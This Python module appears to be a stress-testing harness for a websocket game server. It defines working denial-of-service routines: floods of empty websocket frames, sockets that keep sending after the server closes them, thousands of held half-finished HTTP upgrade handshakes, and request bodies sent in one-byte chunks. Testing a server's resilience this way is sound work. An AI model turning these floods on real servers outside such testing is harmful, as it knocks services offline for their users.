"""Attacks below HTTP and below the messages of a socket."""

from __future__ import annotations

import asyncio
import contextlib

from attack.client import PERSON, THROWN_OUT, UPGRADE, Attacker, quietly

EMPTY = b"\x81\x80\0\0\0\0"
"""A masked text frame with nothing in it."""
FLOOD, STEP = 1_000_000, 0.02
"""Bytes per second on a connection, and the seconds between two writes."""
MANY = 40
MOST_HELD = 3_000


async def empty_frames(attacker: Attacker) -> None:
    """One socket with 1 MB of empty frames per second."""
    await flood(attacker, 1)


async def empty_frames_on_many(attacker: Attacker) -> None:
    """Forty sockets with 1 MB of empty frames per second each."""
    await flood(attacker, MANY)


async def frames_after_close(attacker: Attacker) -> None:
    """Sockets that the server closes because nobody says hello, and that send on regardless."""
    await flood(attacker, MANY, hello=False)


async def flood(attacker: Attacker, sockets: int, *, hello: bool = True) -> None:
    """Empty frames on some sockets; a new one for each that is dropped."""
    made = await attacker.make(PERSON, PERSON)

    async def one() -> None:
        while True:
            with contextlib.suppress(*THROWN_OUT):
                reader, writer = await attacker.socket(made["game"], made["token"], hello=hello)
                reading = asyncio.ensure_future(quietly(attacker.discard(reader)))
                while not reading.done():
                    writer.write(EMPTY * int(FLOOD * STEP / len(EMPTY)))
                    async with asyncio.timeout(30):
                        await writer.drain()
                    await asyncio.sleep(STEP)
            attacker.seen["thrown out"] += 1
            await asyncio.sleep(0.5)

    await asyncio.gather(*(one() for _ in range(sockets)))


async def half_handshakes(attacker: Attacker) -> None:
    """As many connections as there may be, each with a handshake that only HTTP can read."""
    long = "x" * 9_000
    host = f"Host: {attacker.host}:{attacker.port}\r\n"
    kinds = [
        f"GET /{long} HTTP/1.1\r\n{host}{UPGRADE}",
        f"GET / HTTP/1.1\r\n{host}X-Long: {long}\r\n{UPGRADE}",
        f"POST / HTTP/1.1\r\n{host}Content-Length: 4\r\n{UPGRADE}body",
    ]
    held: set[asyncio.Task[None]] = set()

    async def one(head: bytes) -> None:
        with contextlib.suppress(*THROWN_OUT):
            async with asyncio.timeout(5):
                reader, writer = await attacker.connect()
            writer.write(head)
            attacker.begun.set()
            while answer := await reader.read(2**16):
                attacker.seen[answer.split()[1].decode()] += 1
        attacker.seen["thrown out"] += 1

    number = 0
    while True:
        if len(held) < MOST_HELD:
            holding = asyncio.ensure_future(one(kinds[number % len(kinds)].encode()))
            held.add(holding)
            holding.add_done_callback(held.discard)
            number += 1
        await asyncio.sleep(0.002)


async def tiny_chunks(attacker: Attacker) -> None:
    """Bodies in chunks of one byte."""
    head = (
        f"POST /api/games HTTP/1.1\r\nHost: {attacker.host}:{attacker.port}\r\n"
        "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    await asyncio.gather(*(attacker.again(head.encode() + b"1\r\n1\r\n" * 20_000) for _ in range(20)))


ATTACKS = (empty_frames, empty_frames_on_many, frames_after_close, half_handshakes, tiny_chunks)
